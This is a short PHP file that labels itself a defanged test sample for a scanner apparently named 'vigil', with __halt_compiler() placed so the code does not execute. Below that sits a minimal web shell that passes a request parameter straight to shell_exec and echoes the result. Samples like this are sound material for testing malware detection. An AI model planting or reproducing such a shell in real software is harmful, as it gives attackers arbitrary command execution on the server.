<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
extract($_REQUEST);
if ($act == 'cmd') {
	echo ex($cmd);
}
function ex($c)
{
	if (function_exists('shell_exec'))
		return shell_exec($c);
	return '';
}
